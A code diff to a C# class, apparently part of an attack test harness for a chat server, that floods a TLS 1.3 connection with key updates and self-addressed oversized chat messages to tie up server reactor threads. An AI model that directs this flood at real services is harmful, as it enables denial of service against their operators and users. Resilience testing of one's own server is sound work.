@@ -1,4 +1,5 @@
 using System.Net;
+using System.Text;
 
 namespace Megaphone.Attacks;
 
@@ -6,9 +7,8 @@ namespace Megaphone.Attacks;
 /// Nothing but key updates (RFC 8446, section 4.6.3), which OpenSSL takes one after the other without giving the reactor its thread back.
 /// </summary>
 /// <param name="asks">
-/// Whether each wants an answer, which one client reads and the other does not, with stanza framing. Else, with bytes framing, the
-/// clients first say so much that its echo, which they do not read, still comes over the link when the flood begins: so that its
-/// receiver finds their slots' gates held.
+/// Whether each wants an answer, which one client reads and the other does not. Else the clients have logged in, and first write themselves so
+/// much, which they do not read, that it still comes over the link when the flood begins: so that its receiver finds their slots' gates held.
 /// </param>
 internal sealed class KeyUpdateFlood(bool asks) : TlsFlood
 {
@@ -16,6 +16,7 @@ internal sealed class KeyUpdateFlood(bool asks) : TlsFlood
     private const int UpdatesPerSecond = 60_000;
 
     private const int FirstWords = 32;
+    private const int FirstWordBytes = 16_000;
 
     /// <inheritdoc/>
     public override string Name => asks ? "key-updates-asked" : "key-updates";
@@ -23,10 +24,10 @@ internal sealed class KeyUpdateFlood(bool asks) : TlsFlood
     /// <inheritdoc/>
     public override string Summary => asks
         ? "TLS 1.3: clients that never log in send key updates that want answers"
-        : "TLS 1.3: clients that never log in send nothing but key updates";
+        : "TLS 1.3: clients send nothing but key updates, while what they have written themselves comes to them";
 
     /// <inheritdoc/>
-    public override Scene Scene => new() { Stanzas = asks, Ecm = ["Ecm:Reactors=2"] };
+    public override Scene Scene => new() { HasPeers = true, Ecm = ["Ecm:Reactors=2"] };
 
     /// <inheritdoc/>
     public override int MinActions => 100;
@@ -42,7 +43,9 @@ internal sealed class KeyUpdateFlood(bool asks) : TlsFlood
     {
         HandmadeTls tls = await HandmadeTls.ConnectAsync(to, keyLog);
         int words = asks ? 0 : FirstWords, updates = (int)(UpdatesPerSecond * length.TotalSeconds);
-        byte[] first = [.. Enumerable.Range(0, words).SelectMany(_ => tls.Seal(HandmadeTls.ApplicationData, new byte[16 << 10]))];
+        string address = asks ? "" : await HandmadeLogin.MakeAsync(tls);
+        byte[] word = Encoding.ASCII.GetBytes($"<message type='chat' to='{address}'><body>{new string('x', FirstWordBytes)}</body></message>");
+        byte[] first = [.. Enumerable.Range(0, words).SelectMany(_ => tls.Seal(HandmadeTls.ApplicationData, word))];
         return new Flood(tls.Socket, [.. first, .. tls.SealKeyUpdates(updates, asks)], words + updates);
     }
 }
